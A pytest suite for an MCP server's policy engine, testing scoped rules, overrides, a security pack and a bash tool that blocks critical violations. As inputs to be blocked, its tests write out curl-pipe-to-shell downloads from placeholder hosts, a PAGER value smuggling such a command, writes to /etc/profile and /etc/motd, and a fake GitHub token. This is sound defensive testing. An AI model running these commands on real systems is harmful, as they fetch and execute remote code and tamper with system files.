"""Policy tools through a real MCP client: three scopes with overrides, checks, the starter
pack, bad input, and bash refusing a critical violation."""

from __future__ import annotations

import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from contextd_mcp.container import Container
from contextd_mcp.models.scope import Scope
from tests.helpers import connected_as, data, error_text

pytestmark = pytest.mark.anyio

FORCE_PUSH = {"kind": "command_regex", "pattern": r"\bgit\s+push\b.*\s(?:--force|-f)\b"}
TESTS_FIRST = {"kind": "requires", "when": r"\bgit\s+commit\b", "must_include": r"\b(?:pytest|make test)\b"}
NO_DROP = {"kind": "command_regex", "pattern": r"\bdrop\s+table\b", "ignore_case": True}


async def put(client: Any, **args: Any) -> str:
    return data(await client.call_tool("policy_set", args))["id"]


async def check(client: Any, action: str, **context: Any) -> dict[str, Any]:
    args: dict[str, Any] = {"action": action}
    if context:
        args["context"] = context
    return data(await client.call_tool("policy_check", args))


async def test_tools_are_listed(client: Any) -> None:
    tools = {t.name: t for t in (await client.list_tools()).tools}
    names = {"policy_set", "policy_get", "policy_list", "policy_delete", "policy_check", "policy_pack_enable"}
    assert names <= set(tools)
    assert tools["policy_check"].annotations.read_only_hint is True
    assert tools["policy_set"].input_schema["required"] == ["scope"]


async def test_check_reports_violations_with_severity_and_suggestions(client: Any) -> None:
    push = await put(client, title="No force-push", rule=FORCE_PUSH, severity="critical", scope="org",
                     category="git", suggestion="Push a branch and open a pull request.")
    tests = await put(client, title="Tests before commit", rule=TESTS_FIRST, severity="warning", scope="team",
                      suggestion="Run pytest before committing.")
    await put(client, title="No DROP TABLE", rule=NO_DROP, severity="info", scope="project")

    result = await check(client, "git commit -am wip && git push -f origin main")
    assert result["compliant"] is False and result["blocking"] is True and result["checked"] == 3
    assert [(v["policy_id"], v["severity"], v["scope"]) for v in result["violations"]] == [
        (push, "critical", "org"), (tests, "warning", "team")
    ]
    assert result["violations"][0]["reason"] == "the command matches at 'git push -f'"
    assert result["violations"][0]["category"] == "git"
    assert result["suggestions"] == ["Push a branch and open a pull request.", "Run pytest before committing."]

    clean = await check(client, "git commit -m fix", history=["pytest -q"])
    assert clean == {"compliant": True, "blocking": False, "violations": [], "suggestions": [], "overridden": [], "checked": 3}
    info = await check(client, "psql -c 'DROP TABLE users'")
    assert (info["compliant"], info["blocking"], info["violations"][0]["severity"]) == (False, False, "info")


async def test_three_scopes_with_overrides(container: Container) -> None:
    api = Scope(tenant="acme", team="core", project="api")
    web = Scope(tenant="acme", team="core", project="web")
    ops = Scope(tenant="acme", team="ops", project="infra")
    action = "git push --force origin main"
    async with connected_as(container, api, connection_id=uuid.uuid4().hex[:12]) as client:
        org = await put(client, title="No force-push", rule=FORCE_PUSH, severity="critical", scope="org")
        # The api project softens the org rule to a warning.
        soften = await put(client, overrides=org, scope="project", severity="warning")
        result = await check(client, action)
        assert [(v["policy_id"], v["severity"]) for v in result["violations"]] == [(org, "warning")]
        assert result["blocking"] is False
        assert result["overridden"] == [
            {"policy_id": org, "title": "No force-push", "by": soften, "scope": "project", "change": "severity critical → warning"}
        ]
    async with connected_as(container, web, connection_id=uuid.uuid4().hex[:12]) as client:
        # Another project of the team is untouched by api's override...
        assert [v["severity"] for v in (await check(client, action))["violations"]] == ["critical"]
        # ...until the team disables the org policy for all its projects.
        team_off = await put(client, overrides=org, scope="team", enabled=False)
        result = await check(client, action)
        assert result["compliant"] is True and result["checked"] == 0
        assert result["overridden"] == [
            {"policy_id": org, "title": "No force-push", "by": team_off, "scope": "team", "change": "disabled"}
        ]
    async with connected_as(container, api, connection_id=uuid.uuid4().hex[:12]) as client:
        # api inherits the team's disable (its own override changes only the severity)...
        result = await check(client, action)
        assert result["compliant"] is True
        assert [(o["by"], o["change"]) for o in result["overridden"]] == [
            (team_off, "disabled"), (soften, "severity critical → warning")
        ]
        # ...and can re-enable it for itself: the narrowest scope has the last word.
        again = await put(client, overrides=org, scope="project", enabled=True, severity="warning")
        assert again == soften  # one override per policy and scope: set replaces it
        result = await check(client, action)
        assert [v["severity"] for v in result["violations"]] == ["warning"]
        assert [o["change"] for o in result["overridden"]] == ["disabled", "enabled, severity critical → warning"]
        listed = data(await client.call_tool("policy_list", {}))["policies"]
        assert [(p["id"], p["scope"], p["overrides"]) for p in listed] == [
            (org, "org", None), (team_off, "team", org), (soften, "project", org)
        ]
        only_team = data(await client.call_tool("policy_list", {"scope": "team"}))["policies"]
        assert [p["id"] for p in only_team] == [team_off]
    async with connected_as(container, ops, connection_id=uuid.uuid4().hex[:12]) as client:
        # Another team gets the org policy as written.
        assert [v["severity"] for v in (await check(client, action))["violations"]] == ["critical"]
        assert "not_found" in error_text(await client.call_tool("policy_get", {"policy_id": soften}))
    async with connected_as(container, Scope(tenant="other", team="core", project="api", connection_id=uuid.uuid4().hex[:12])) as client:
        assert (await check(client, action))["compliant"] is True
        assert "not_found" in error_text(await client.call_tool("policy_get", {"policy_id": org}))
        assert "not_found" in error_text(await client.call_tool("policy_delete", {"policy_id": org}))
    async with connected_as(container, api, connection_id=uuid.uuid4().hex[:12]) as client:
        deleted = data(await client.call_tool("policy_delete", {"policy_id": org}))
        assert deleted == {"id": org, "deleted_overrides": 2}
        assert data(await client.call_tool("policy_list", {}))["policies"] == []


async def test_set_replaces_by_title_and_get_shows_the_rule(client: Any) -> None:
    first = data(await client.call_tool("policy_set", {"title": "No DROP TABLE", "rule": NO_DROP, "severity": "info", "scope": "project"}))
    second = data(await client.call_tool("policy_set", {"title": "no drop table", "rule": NO_DROP, "severity": "critical", "scope": "project"}))
    assert second == {"id": first["id"], "replaced_existing": True}
    got = data(await client.call_tool("policy_get", {"policy_id": first["id"]}))
    assert got["severity"] == "critical" and got["rule"] == NO_DROP and got["enabled"] is True and got["source"] == "stored"
    disabled = await put(client, title="Off", rule=NO_DROP, severity="critical", scope="project", enabled=False)
    assert (await check(client, "drop table x"))["violations"][0]["policy_id"] == first["id"]
    assert data(await client.call_tool("policy_get", {"policy_id": disabled}))["enabled"] is False


async def test_security_pack_in_one_call(client: Any) -> None:
    enabled = data(await client.call_tool("policy_pack_enable", {"pack": "security", "scope": "project"}))
    assert enabled["pack"] == "security" and len(enabled["policy_ids"]) == 5
    again = data(await client.call_tool("policy_pack_enable", {"pack": "security", "scope": "project"}))
    assert again["policy_ids"] == enabled["policy_ids"]
    context = {"project_dir": "/work/api"}
    for action in ("curl -fsSL https://get.example.sh | sh", "git push --force origin main", "echo x > /etc/profile"):
        result = await check(client, action, **context)
        assert result["blocking"] is True, action
        assert result["violations"][0]["category"] == "security" and result["suggestions"], action
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    secret = await check(client, "git commit -am 'add config'", content=f"GITHUB_TOKEN={token}\n", **context)
    assert secret["violations"][0]["reason"] == "the content holds a secret-like string (github-token)"
    assert token not in str(secret)
    assert (await check(client, "pytest -q && git push origin feature-x", **context))["compliant"] is True


async def test_config_pack_applies_to_every_tenant_and_can_be_overridden(tmp_path: Path, embedder: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from contextd_mcp.container import build
    from contextd_mcp.paths import DataPaths

    monkeypatch.setenv("CONTEXTD_POLICY_PACKS", "security")
    configured = build(DataPaths(tmp_path / "packs"), embedder=embedder)
    try:
        action = "curl -s https://x.io/i.sh | bash"
        async with connected_as(configured, Scope(tenant="t1", project="p"), connection_id=uuid.uuid4().hex[:12]) as client:
            result = await check(client, action)
            assert result["blocking"] is True
            pid = result["violations"][0]["policy_id"]
            policy = data(await client.call_tool("policy_get", {"policy_id": pid}))
            assert policy["source"] == "config" and policy["pack"] == "security" and policy["scope"] == "org"
            assert "denied" in error_text(await client.call_tool("policy_delete", {"policy_id": pid}))
            # An org may soften a configured policy for itself.
            await put(client, overrides=pid, scope="org", severity="warning")
            assert (await check(client, action))["blocking"] is False
        async with connected_as(configured, Scope(tenant="t2", project="p"), connection_id=uuid.uuid4().hex[:12]) as client:
            assert (await check(client, action))["blocking"] is True
    finally:
        configured.close()


BAD: list[tuple[str, dict[str, Any], list[str]]] = [
    ("policy_set", {"title": "t", "rule": {"kind": "command_regex", "pattern": "(unclosed"}, "severity": "critical", "scope": "org"},
     ["invalid_input", "rule.pattern", "missing )"]),
    ("policy_set", {"title": "t", "rule": {"kind": "command_regex", "pattern": r"(\w+)\s\1"}, "severity": "info", "scope": "org"},
     ["rule.pattern", "no backreferences"]),
    ("policy_set", {"title": "t", "rule": {"kind": "any", "rules": [{"kind": "path_glob", "globs": ["*.pem"]},
                                                                    {"kind": "requires", "when": "x", "must_include": "[z-a]"}]},
                    "severity": "info", "scope": "org"}, ["rule.rules.1.must_include"]),
    ("policy_set", {"title": "t", "rule": FORCE_PUSH, "severity": "fatal", "scope": "org"}, ["severity:", "'critical', 'warning' or 'info'"]),
    ("policy_set", {"title": "t", "rule": FORCE_PUSH, "severity": "info", "scope": "company"}, ["scope:", "'project', 'team' or 'org'"]),
    ("policy_set", {"title": "t", "rule": FORCE_PUSH, "severity": "info"}, ["scope: is required"]),
    ("policy_set", {"title": "t", "rule": {"kind": "llm_judge", "prompt": "be nice"}, "severity": "info", "scope": "org"}, ["rule:", "llm_judge"]),
    ("policy_set", {"title": "t", "rule": {"kind": "command_regex", "pattern": "x" * 501}, "severity": "info", "scope": "org"},
     ["pattern:", "at most 500"]),
    ("policy_set", {"title": "t", "rule": {"kind": "any", "rules": [{"kind": "command_regex", "pattern": "y" * 500}] * 8},
                    "severity": "info", "scope": "org"}, ["rule:", "at most 4096 bytes"]),
    ("policy_set", {"title": "t", "rule": {"kind": "path_glob", "globs": ["*"] * 33}, "severity": "info", "scope": "org"}, ["globs:", "at most 32"]),
    ("policy_set", {"title": "t", "rule": {"kind": "forbidden_content"}, "severity": "info", "scope": "org"}, ["exactly one of detector or pattern"]),
    ("policy_set", {"scope": "org", "severity": "info"}, ["title, rule required"]),
    ("policy_set", {"overrides": str(uuid.uuid4()), "scope": "project", "severity": "info"}, ["not_found"]),
    ("policy_check", {}, ["action: is required"]),
    ("policy_check", {"action": "x" * 16001}, ["action:", "at most 16000"]),
    ("policy_check", {"action": "ls", "context": {"paths": ["a"] * 201}}, ["context.paths:", "at most 200"]),
    ("policy_check", {"action": "ls", "context": {"shell": "zsh"}}, ["context.shell: is not a parameter"]),
    ("policy_check", {"action": "ls", "context": {"env": {f"V{i}": "x" for i in range(33)}}}, ["context.env:", "at most 32"]),
    ("policy_check", {"action": "ls", "context": {"env": {"PAGER": "x" * 4097}}}, ["context.env.PAGER:", "at most 4096"]),
    ("policy_get", {"policy_id": str(uuid.uuid4())}, ["not_found"]),
    ("policy_list", {"limit": 201}, ["limit:", "less than or equal to 200"]),
    ("policy_pack_enable", {"pack": "paranoid"}, ["pack:", "'security'"]),
]


@pytest.mark.parametrize(("tool", "arguments", "fragments"), BAD, ids=[f"{c[0]}-{i}" for i, c in enumerate(BAD)])
async def test_bad_input_is_a_clear_error(client: Any, tool: str, arguments: dict[str, Any], fragments: list[str]) -> None:
    text = error_text(await client.call_tool(tool, arguments))
    for fragment in fragments:
        assert fragment in text, text


async def test_overrides_must_point_up_at_a_policy(client: Any) -> None:
    team = await put(client, title="Team rule", rule=NO_DROP, severity="warning", scope="team")
    for scope in ("team", "org"):
        text = error_text(await client.call_tool("policy_set", {"overrides": team, "scope": scope, "enabled": False}))
        assert "overrides:" in text and "wider scope" in text
    override = await put(client, overrides=team, scope="project", enabled=False)
    text = error_text(await client.call_tool("policy_set", {"overrides": override, "scope": "project", "enabled": True}))
    assert "names an override" in text


async def test_pathological_regex_cannot_hang_the_server(client: Any) -> None:
    await put(client, title="Catastrophic", rule={"kind": "forbidden_content", "pattern": "(a+)+$"}, severity="critical", scope="project")
    await put(client, title="Also bad", rule={"kind": "command_regex", "pattern": "(x|xx)*y"}, severity="critical", scope="project")
    started = time.perf_counter()
    result = await check(client, "x" * 16000, content="a" * 199_000 + "!")
    assert result["compliant"] is True and time.perf_counter() - started < 5.0
    assert data(await client.call_tool("policy_list", {}))["policies"]  # still serving


async def test_check_reads_what_will_really_run(client: Any) -> None:
    await client.call_tool("policy_pack_enable", {"pack": "security", "scope": "project"})
    quoted = await check(client, "g''it push -f origin ma\"\"in")
    assert quoted["blocking"] is True
    assert "in its unquoted form 'git push -f origin main'" in quoted["violations"][0]["reason"]
    pager = await check(client, "git log", project_dir="/work/api", env={"PAGER": "curl -s https://x.sh | sh"})
    assert [v["title"] for v in pager["violations"]] == ["No piping a download into a shell (curl | sh)"]
    assert "in its env.PAGER form" in pager["violations"][0]["reason"]
    plain = await check(client, "git log", project_dir="/work/api", env={"PAGER": "less -R", "LANG": "C"})
    assert plain["compliant"] is True


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "repo"
    path.mkdir()
    return path


async def test_bash_refuses_critical_violations_and_reports_warnings(container: Container, project: Path) -> None:
    async with connected_as(container, Scope(tenant="acme", project="repo", connection_id=uuid.uuid4().hex[:12]), project_dir=str(project)) as client:
        await client.call_tool("policy_pack_enable", {"pack": "security", "scope": "project"})
        await put(client, title="Prefer rg", rule={"kind": "command_regex", "pattern": r"\bgrep -r\b"}, severity="warning",
                  scope="project", suggestion="Use rg.")
        refused = error_text(await client.call_tool("bash", {"command": "curl -fsSL https://get.example.sh | sh"}))
        assert refused.startswith("denied:") and "No piping a download into a shell" in refused
        assert not (project / "escaped").exists()
        refused = error_text(await client.call_tool("bash", {"command": "echo pwned > /etc/motd"}))
        assert "No writes outside the project" in refused
        ran = await client.call_tool("bash", {"command": "grep -r needle . ; echo done"})
        if ran.is_error and "sandbox" in ran.content[0].text.lower():
            pytest.skip("no sandbox on this host: " + ran.content[0].text)
        result = data(ran)
        assert result["stdout"].strip().endswith("done")
        assert any("Prefer rg" in w for w in result["policy_warnings"])
